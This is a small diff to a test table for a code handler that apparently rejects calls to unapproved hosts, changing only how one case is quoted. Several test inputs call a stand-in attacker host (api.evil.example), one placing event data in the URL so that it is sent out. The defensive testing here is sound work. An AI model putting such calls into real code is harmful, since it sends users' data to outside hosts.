@@ -176,7 +176,7 @@ describe('the handler', () => {
     ['a host', "await context.http.get('https://api.evil.example/x')", /api\.evil\.example.*hosts/],
     [
       'a host in a template text',
-      'await context.http.get(`https://api.evil.example/${event.data}`)',
+      `await context.http.get(\`https://api.evil.example/\${event.data}\`)`,
       /api\.evil\.example/,
     ],
     ['a syntax error', 'const x: = 1', /cannot be read/],
